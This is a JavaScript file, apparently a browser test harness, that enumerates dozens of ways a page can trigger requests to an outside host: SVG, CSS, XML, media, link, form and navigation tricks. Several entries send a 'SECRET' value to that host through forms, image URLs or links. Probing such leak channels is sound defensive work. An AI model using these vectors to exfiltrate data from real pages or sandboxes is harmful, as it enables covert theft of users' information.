// What a document loads by itself, element by element and property by property.
const drawing = (name, inner) => markup(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width=9 height=9>${inner.replaceAll("URL", there(name))}</svg>`);
const declared = (name, text) => add("i", { textContent: "x" }).setAttribute("style", text.replaceAll("URL", there(name)));
const html = (name, text) => markup(text.replaceAll("URL", there(name)));
const linked = (name, given) => document.head.append(make("link", { href: there(name), ...given }));
const module = (code) => add("script", { type: "module", textContent: code });
const xml = (text) => frame({ src: blob(text, "application/xml") });
const own = (name, text) => frame({ srcdoc: text.replaceAll("URL", there(name)) });

const STAYING = {
  svg_use: (name) => drawing(name, `<use href="URL#a"/>`),
  svg_image: (name) => drawing(name, `<image href="URL" width="9" height="9"/>`),
  svg_image_xlink: (name) => drawing(name, `<image xlink:href="URL" width="9" height="9"/>`),
  svg_fe_image: (name) => drawing(name, `<filter id="f${name}"><feImage href="URL"/></filter><rect width="9" height="9" filter="url(#f${name})"/>`),
  svg_script: (name) => {
    const made = document.createElementNS("http://www.w3.org/2000/svg", "script");
    made.setAttribute("href", there(name));
    document.body.append(made);
  },
  svg_filter_elsewhere: (name) => declared(name, "display: block; filter: url(URL#f)"),
  svg_anchor_click: (name) => {
    drawing(name, `<a id="a${name}" href="#" ping="URL"><text>x</text></a>`);
    document.getElementById(`a${name}`).dispatchEvent(new MouseEvent("click", { bubbles: true }));
  },
  dynamic_import: (name) => import(there(name)),
  import_in_module: (name) => module(`import ${quoted(there(name))}`),
  import_map: (name) => {
    add("script", { type: "importmap", textContent: JSON.stringify({ imports: { [name]: there(name) } }) });
    module(`import ${quoted(name)}`);
  },
  json_module: (name) => module(`import x from ${quoted(there(name))} with { type: "json" }`),
  css_module: (name) => module(`import x from ${quoted(there(name))} with { type: "css" }`),
  module_script: (name) => add("script", { type: "module", src: there(name) }),
  xml_stylesheet: (name) => xml(`<?xml-stylesheet type="text/css" href="${there(name)}"?><a/>`),
  xslt_stylesheet: (name) => xml(`<?xml-stylesheet type="text/xsl" href="${there(name)}"?><a/>`),
  xml_entity: (name) => xml(`<!DOCTYPE a SYSTEM "${there(name)}" [<!ENTITY b SYSTEM "${there(name)}">]><a>&b;</a>`),
  xml_image: (name) => xml(`<a xmlns:h="http://www.w3.org/1999/xhtml"><h:img src="${there(name)}"/></a>`),
  track: (name) => {
    html(name, `<video id="v${name}" crossorigin src="/blank"><track default src="URL"></video>`);
    document.getElementById(`v${name}`).textTracks[0].mode = "showing";
  },
  audio: (name) => (new Audio(there(name)).preload = "auto"),
  media_source: (name) => html(name, `<video preload="auto"><source src="URL"></video>`),
  poster: (name) => html(name, `<video poster="URL"></video>`),
  source_srcset: (name) => html(name, `<picture><source srcset="URL 1x"><img></picture>`),
  picture_media: (name) => html(name, `<picture><source media="(min-width: 1px)" srcset="URL"><img src="/blank"></picture>`),
  image_srcset: (name) => html(name, `<img srcset="URL 1x, /blank 9x">`),
  image_lazy: (name) => html(name, `<img loading="lazy" width="1" height="1" style="position:fixed;top:0" src="URL">`),
  image_decode: (name) => {
    const made = new Image();
    made.src = there(name);
    return made.decode();
  },
  image_input: (name) => html(name, `<input type="image" src="URL">`),
  table_background: (name) => html(name, `<table background="URL"><tr><td>x</table>`),
  cursor: (name) => {
    declared(name, "display: block; cursor: url(URL), auto; position: fixed; top: 0; left: 0; width: 999px; height: 999px");
    document.body.lastChild.dispatchEvent(new MouseEvent("mousemove", { bubbles: true }));
  },
  list_style_image: (name) => declared(name, "display: list-item; list-style-image: url(URL)"),
  border_image: (name) => declared(name, "border: 1px solid; border-image: url(URL) 1"),
  mask_image: (name) => declared(name, "display: block; mask-image: url(URL)"),
  clip_path_elsewhere: (name) => declared(name, "display: block; clip-path: url(URL#c)"),
  shape_outside: (name) => declared(name, "float: left; shape-outside: url(URL)"),
  content_url: (name) => declared(name, "content: url(URL)"),
  image_set: (name) => declared(name, `background: image-set("URL" 1x)`),
  cross_fade: (name) => declared(name, "background: -webkit-cross-fade(url(URL), url(URL), 50%)"),
  generated_content: (name) => style(`body::before { content: url(${there(name)}) }`),
  variable_of_css: (name) => declared(name, "--u: url(URL); background: var(--u)"),
  imported_in_layer: (name) => style(`@import url(${there(name)}) layer(a) supports(display: grid)`),
  adopted_sheet: (name) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`html { border-image-source: url(${there(name)}) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  shadow_sheet: (name) => {
    const root = add("div", {}).attachShadow({ mode: "closed" });
    root.innerHTML = `<style>b { background: url(${there(name)}) }</style><b>x</b>`;
  },
  font_face: (name) => {
    style(`@font-face { font-family: ${name}; src: url(${there(name)}) }`);
    add("p", { textContent: "x" }).style.fontFamily = name;
  },
  frame_lazy: (name) => html(name, `<iframe loading="lazy" style="position:fixed;top:0" src="URL"></iframe>`),
  frame_renamed: (name) => (frame({}).contentWindow.location = there(name)),
  frameset: (name) => own(name, `<frameset cols="*"><frame src="URL"></frameset>`),
  formaction_in_frame: (name) => own(name, `<form method=post><input name=e><button formaction="URL">x</button></form><script>document.querySelector("button").click()</script>`),
  base_of_form: (name) => own(name, `<base href="${THERE}/"><form method=post action="/${path(name)}"><input name=e value="${SECRET}"></form><script>document.forms[0].submit()</script>`),
  base_of_picture: (name) => own(name, `<base href="${THERE}/"><img src="/${path(name)}?e=${SECRET}">`),
  dialog_form: (name) => own(name, `<dialog open><form method=post action="URL"><button>x</button></form></dialog><script>document.querySelector("button").click()</script>`),
  form_request_submit: (name) => own(name, `<form method=get action="${mark(name)}"><input name=e value="${SECRET}"></form><script>document.forms[0].requestSubmit()</script>`),
  submit_button_outside: (name) => own(name, `<form id=f method=post action=/blank></form><button form=f formaction="URL">x</button><script>document.querySelector("button").click()</script>`),
  alternate_stylesheet: (name) => linked(name, { rel: "alternate stylesheet", title: "a" }),
  print_stylesheet: (name) => linked(name, { rel: "stylesheet", media: "print" }),
  apple_touch_icon: (name) => linked(name, { rel: "apple-touch-icon" }),
  mask_icon: (name) => linked(name, { rel: "mask-icon" }),
  compression_dictionary: (name) => linked(name, { rel: "compression-dictionary" }),
  preload_imagesrcset: (name) => document.head.append(make("link", { rel: "preload", as: "image", imageSrcset: `${there(name)} 1x` })),
  preload_as_fetch: (name) => linked(name, { rel: "preload", as: "fetch", crossOrigin: "anonymous" }),
  preload_as_style: (name) => linked(name, { rel: "preload", as: "style" }),
  parsed_fragment: (name) => document.body.append(document.createRange().createContextualFragment(`<img src="${there(name)}">`)),
  parsed_unsafely: (name) => add("div", {}).setHTMLUnsafe(`<img src="${there(name)}">`),
  image_of_nobody: (name) => make("img", { src: there(name) }),
  event_attribute: (name) => html(name, `<img src="data:," onerror="fetch('URL')">`),
  animated_href: (name) => drawing(name, `<image width="9" height="9" href="data:,"><set attributeName="href" to="URL" begin="0s"/></image>`),
  web_animation: (name) => add("b", { textContent: "x" }).animate([{ backgroundImage: `url(${there(name)})` }, { backgroundImage: `url(${there(name)})` }], 5000),
  wasm_stream: (name) => WebAssembly.compileStreaming(fetch(there(name))),
  cache_add: async (name) => (await caches.open(name)).add(new Request(there(name), { mode: "no-cors" })),
  view_transition: (name) => style(`::view-transition-group(root) { background: url(${there(name)}) }`) && document.startViewTransition(() => {}).ready,
};
const LEAVING = {
  body_background: (name) => document.body.setAttribute("background", there(name)),
  base_of_link: (name) => {
    document.head.append(make("base", { href: `${THERE}/` }));
    add("a", { href: `/${path(name)}?e=${SECRET}` }).click();
  },
  refresh_by_meta: (name) => document.head.append(make("meta", { httpEquiv: "refresh", content: `0; url=${there(name)}` })),
  written_over: (name) => {
    document.open();
    document.write(`<script src="${there(name)}"></script>`);
    document.close();
  },
  location_assign: (name) => location.assign(there(name)),
  navigation_api: (name) => navigation.navigate(there(name)),
  link_click: (name) => add("a", { href: there(name) }).click(),
  form_target_top: (name) => own(name, `<form method=post target=_top action="URL"><input name=e></form><script>document.forms[0].submit()</script>`),
  history_then_reload: (name) => {
    history.replaceState(null, "", `${HERE}/redirect/302/${path(name)}`);
    location.reload();
  },
};
